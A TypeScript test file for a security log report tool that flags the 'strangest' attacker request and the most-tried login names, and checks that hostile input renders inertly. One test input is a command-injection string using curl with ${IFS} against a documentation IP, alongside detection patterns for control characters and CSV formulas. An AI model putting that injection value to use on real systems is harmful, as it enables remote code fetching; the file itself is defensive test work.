/** The strangest request and the names tried most: what strangers wrote, told in a sentence of ours. */
import { describe, expect, test } from 'vitest';
import type { Format } from '../report.ts';
import { audit, makeReport, renderReport } from '../report.ts';
import { HOSTILE } from '../testing/random.ts';
import type { RecordList } from '../testing/records.ts';
import { banOf, evidenceOf, optionsOf, recordsOf, tableOf, userOf } from '../testing/records.ts';
import { signsIn } from './strangest.ts';

const ALPHA = '192.0.2.1';

function told(list: Partial<RecordList>, topic: string, options = optionsOf()) {
  const report = makeReport(recordsOf(list), options);
  expect(audit(report)).toEqual([]);
  return tableOf(report, 'stories').rows.flatMap(({ cells }) => (cells.story === topic ? [cells] : []));
}

/** A ban for each target. */
function aimed(...targets: string[]) {
  return {
    bans: targets.map((_, i) => banOf({ id: i + 1, subject: ALPHA })),
    evidence: new Map(
      targets.map((target, i) => [
        i + 1,
        [evidenceOf(ALPHA, { target, line: `line of ${target}` }), evidenceOf(ALPHA)],
      ]),
    ),
  };
}

test.each([
  ['GET /', 0],
  ['GET /?a=1&b=2&c=3', 1],
  [`$(curl\${IFS}http://192.0.2.1)`, 5],
  ['%24%28curl%24%7BIFS%7D%29', 5],
  ['%zz%2', 0],
  ['\\x16\\x03\\x01', 1],
  ['\x16\x03\x01\x00', 1],
  ['`a;b|c&d<e>f\'g"h', 8],
])('signsIn(%j) is %d: each sort of character once', (target, signs) => {
  expect(signsIn(target)).toBe(signs);
});

describe('the strangest request', () => {
  test('has the most sorts of characters for a shell, then is the longest, then the earliest', () => {
    const list = aimed('GET /', 'x;y|z&w', 'a;b|c&d', 'aa;b|c&dd', 'bb;b|c&dd');
    expect(told(list, 'strangest')).toEqual([
      expect.objectContaining({
        sentence:
          'Of 5 requests and recipients, the strangest is “aa;b|c&dd”, with 3 different characters that a shell would act upon; 192.0.2.1 sent it to web1 on 2024-10-01 (web.probe.wordpress).',
        evidence: 'ban 4: rapsheet show 192.0.2.1',
        line: 'line of aa;b|c&dd',
      }),
    ]);
    expect(told(aimed('GET /', 'a&b;c'), 'strangest')).toEqual([]);
  });

  test('is cut between characters, and its quotation marks cannot end the quotation', () => {
    const [cut] = told(aimed(`;|&${'\xf0\x9f\x98\x80'.repeat(100)}`), 'strangest');
    expect(cut?.sentence).toContain(`“;|&${'😀'.repeat(76)}…”`);
    const [quoted] = told(aimed('a;|&\xe2\x80\x9d b'), 'strangest');
    expect(quoted?.sentence).toContain('“a;|&\\u201d b”');
  });

  test('is looked for among an even sample of many bans, and says of how many', () => {
    const many = Array.from({ length: 5000 }, (_, i) => banOf({ id: i + 1, subject: ALPHA }));
    const evidence = new Map([[1, [evidenceOf(ALPHA, { target: 'a;b|c&d' })]]]);
    expect(told({ bans: many, evidence }, 'strangest')[0]?.sentence).toContain(
      'Of 1 request or recipient in the evidence of 2,500 of 5,000 bans, ',
    );
  });
});

describe('the names tried most', () => {
  const users = [
    userOf({ user: 'root', service: 'ssh', count: 1200 }),
    userOf({ user: 'Ren\xc3\xa9e', count: 40 }),
    userOf({ user: 'admin', count: 40 }),
    userOf({ user: 'test', count: 3 }),
  ];

  test('are those of the table, equals together, with a line that names one of them', () => {
    const evidence = new Map([
      [1, [evidenceOf(ALPHA, { user: 'test', line: 'of test' })]],
      [
        2,
        [evidenceOf(ALPHA, { user: 'Ren\xc3\xa9e', line: 'of Renée' }), evidenceOf(ALPHA, { user: 'x', line: 'of x' })],
      ],
    ]);
    const bans = [1, 2].map((id) => banOf({ id, subject: ALPHA }));
    expect(told({ users, bans, evidence }, 'names')).toEqual([
      expect.objectContaining({
        sentence:
          'The names tried most, in 1,283 attempts that named a user: “root” (ssh) 1,200 times; “admin” (mail) and “Renée” (mail) 40 times each.',
        evidence: 'ban 2',
        line: 'of Renée',
      }),
    ]);
  });

  test('say how many others were tried as often as the last', () => {
    const equals = Array.from({ length: 9 }, (_, i) => userOf({ user: `user${i}`, count: 7 }));
    expect(told({ users: equals }, 'names')[0]).toMatchObject({
      sentence: expect.stringMatching(/“user4” \(mail\) 7 times each \(and 4 other names as often\)\.$/),
      evidence: null,
      bans: null,
    });
  });
});

describe('what strangers wrote', () => {
  const users = HOSTILE.map((user, i) => userOf({ user, count: 1000 - i }));
  const campaign = (user: string) =>
    ({ rule: 'campaign', user, service: 'mail', addresses: 100, findTime: 1, since: 0 }) as const;
  const lists = HOSTILE.map((text): Partial<RecordList> => {
    const { bans, evidence } = aimed(`;|&$${text}`);
    return { bans: [...bans, banOf({ id: 2 })], evidence, users, reasons: new Map([[2, campaign(text)]]) };
  });

  test.each<[Format, RegExp]>([
    // What a terminal acts on.
    ['text', /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b\u202a-\u202e\ufeff]/],
    ['json', /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b\u202a-\u202e\ufeff]/],
    // Tags, links, images and mathematics, outside code.
    ['markdown', /<|https?:\/\/|[^\\]\]\(|!\[|\$/],
    // Formulas.
    ['csv', /^\s*[=+\-@\t\r]/],
  ])('does nothing in a story as %s', (format, acting) => {
    for (const list of lists) {
      const report = makeReport(recordsOf(list), optionsOf({ language: 'de' }));
      expect(tableOf(report, 'stories').rows.map(({ cells }) => cells.story)).toEqual(
        expect.arrayContaining(['campaign', 'strangest', 'names']),
      );
      const only = { ...report, tables: [tableOf(report, 'stories')] };
      for (const { pieces } of renderReport(only, format, { width: 80, color: false })) {
        const drawn = [...pieces].join('').replace(format === 'markdown' ? /`[^`]*`/g : /(?!)/, '');
        const parts =
          format === 'csv' ? (drawn.match(/"(?:[^"]|"")*"/g) ?? []).map((cell) => cell.slice(1, -1)) : [drawn];
        for (const part of parts) expect(part).not.toMatch(acting);
      }
    }
  });
});
